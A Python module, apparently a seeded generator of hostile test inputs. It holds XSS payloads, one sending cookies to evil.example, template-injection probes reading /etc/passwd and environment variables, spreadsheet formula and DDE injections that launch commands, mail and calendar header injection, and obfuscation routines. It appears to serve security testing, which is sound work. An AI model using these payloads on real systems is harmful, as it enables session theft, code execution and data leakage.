"""Hostile strings: what to say, how to break out of where it stands, and how to hide it. A seed gives the same ones."""

from __future__ import annotations

import html
import random
from collections.abc import Callable, Sequence
from urllib.parse import quote

#: Ends whatever a careless writer has put around a value.
_BREAKING_OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "`",
    "-->",
    "]]>",
    "</script>",
    "</title>",
    "</textarea>",
    "</style>",
    "</svg>",
    "\\",
    "\\'",
    "%>",
    "?>",
    "*/",
    ");",
    "}}",
    "%}",
    "\n",
    "\r\n",
    "\t",
    "\x00",
    "\u2028",
    ">",
    "<",
    "</",
    "&",
    "&quot;",
    "|",
    ">>>",
)
_HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onpointerenter", "onanimationstart", "onbegin")
_TAGS = (
    "img",
    "svg",
    "body",
    "input",
    "details",
    "video",
    "audio",
    "iframe",
    "object",
    "embed",
    "math",
    "marquee",
    "a",
    "x",
)
_CALLS = (
    "alert(1)",
    "alert`1`",
    "confirm(1)",
    "top['al'+'ert'](1)",
    "fetch('https://evil.example/'+document.cookie)",
    "location='https://evil.example'",
    "import('https://evil.example/x.js')",
)
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "\x01javascript:",
    "data:text/html,",
    "vbscript:",
    "//evil.example/",
    "javascript&colon;",
    "https://evil.example/?q=",
)
#: For Slack: groups that are called together, and links that say another place than they lead to.
SLACK = (
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<@U0000001>",
    "<#C0000001>",
    "<!subteam^S0000001>",
    "<!date^1^{date}|x>",
    "<https://evil.example|https://ope.example>",
    "<mailto:x@evil.example|write>",
    "<javascript:alert(1)|x>",
    "<!channel|x>",
)
#: For calendars and mails: another line, another property, another recipient.
LINES = (
    "\r\nBcc: x@evil.example",
    "\nBcc: x@evil.example",
    "\rBcc: x@evil.example",
    "\r\n\r\n<b>x</b>",
    "\r\n.\r\n",
    "\x0bBcc: x@evil.example",
    "\x85Bcc: x@evil.example",
    "\u2028Bcc: x@evil.example",
    "\u2029Cc: x@evil.example",
    "\r\nATTENDEE:mailto:x@evil.example",
    "\nEND:VEVENT\nBEGIN:VEVENT\nUID:1",
    "\r\n URL:https://evil.example",
    '";X-EVIL="1":',
    ";ATTENDEE=x:y",
    "=?utf-8?q?=0D=0ABcc:_x=40evil.example?=",
    "ø" * 90,
    "æ\r\n øå",
    "\\n\\;\\,",
    "\x00",
    "\x1b[2J",
    "x@evil.example, y@evil.example",
)
#: Sums that nobody writes by chance: where the product stands, something was evaluated.
SUM, PRODUCT = "7919*7907", "62615533"
TEMPLATES = (
    f"{{{{{SUM}}}}}",
    f"${{{SUM}}}",
    f"#{{{SUM}}}",
    f"<%= {SUM} %>",
    f"{{{{ '{SUM}' | eval }}}}",
    f"{{% if 1 %}}{{{{{SUM}}}}}{{% endif %}}",
    "{0.__class__.__mro__}",
    "{reference}",
    "%(reference)s",
    "{{ self.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.environ }}",
    "{% include '/etc/passwd' %}",
    "$text",
    "${text}",
    "$$",
    "{%raw%}",
    "{#",
    "{{",
    "}}",
    "#strong[x]",
    f'#eval("{SUM}")',
    '#read("/etc/passwd")',
    "<w:t>x</w:t>",
    "&lt;",
    "]]>",
    "&#x3c;",
    "{{r x }}",
    "{%p for x in y %}",
    "{%tr for x in y %}",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","x")',
    '=IMPORTXML(CONCAT("https://evil.example",A1),"//a")',
    '=WEBSERVICE("https://evil.example")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=DDE("cmd";"/C calc";"x")',
    "%0A-3+3+cmd|' /C calc'!D2",
    ";=1+1",
    ",=1+1",
    '"=1+1',
)


def scripts(chance: random.Random) -> str:
    """A script, a handler or an address that runs one, put where it would begin and then hidden."""
    tag, handler, call = chance.choice(_TAGS), chance.choice(_HANDLERS), chance.choice(_CALLS)
    said = chance.choice(
        (
            f"<script>{call}</script>",
            f"<{tag} src=x {handler}={call}>",
            f"<{tag}/{handler}='{call}'>",
            f'<{tag} id=x tabindex=1 {handler}="{call}" autofocus>',
            f'<a href="{chance.choice(_SCHEMES)}{call}">x</a>',
            f"{chance.choice(_SCHEMES)}{call}",
            f" {handler}={call} x=",
            f'<iframe srcdoc="<script>{call}</script>">',
            f"<svg><animate onbegin={call} attributeName=x dur=1s>",
            f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 {handler}={call}>">',
            "<style>@import 'https://evil.example/x.css';</style><link rel=stylesheet href=https://evil.example/x.css>",
            "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
            f"<form action=https://evil.example><button formaction={chance.choice(_SCHEMES)}{call}>x</button></form>",
        )
    )
    return chance.choice(_BREAKING_OUT) + chance.choice(_HIDING)(said, chance)


def one_of(said: Sequence[str], chance: random.Random) -> str:
    """One of them, in the middle of ordinary words as often as alone."""
    words = chance.choice(said)
    return chance.choice((words, f"Ærø Kommune {words}", f"{words} Søndergård", f"Kim{words}Æble", words * 2))


def _case(text: str, chance: random.Random) -> str:
    return "".join(char.upper() if chance.random() < 0.5 else char for char in text)


def _entities(text: str, chance: random.Random) -> str:
    return "".join(f"&#{ord(char)};" if chance.random() < 0.4 else char for char in text)


def _zero_width(text: str, chance: random.Random) -> str:
    return "".join(char + ("\u200b" if chance.random() < 0.2 else "") for char in text)


def _fullwidth(text: str, chance: random.Random) -> str:
    return "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" and chance.random() < 0.3 else char for char in text)


_HIDING: tuple[Callable[[str, random.Random], str], ...] = (
    *(lambda text, _: text,) * 6,
    _case,
    _entities,
    _zero_width,
    _fullwidth,
    lambda text, _: html.escape(text),
    lambda text, _: quote(text),
    lambda text, _: text.replace(" ", "/"),
    lambda text, _: text.replace("<", "<\x00", 1),
    lambda text, _: f"\u202e{text}\u202c",
)
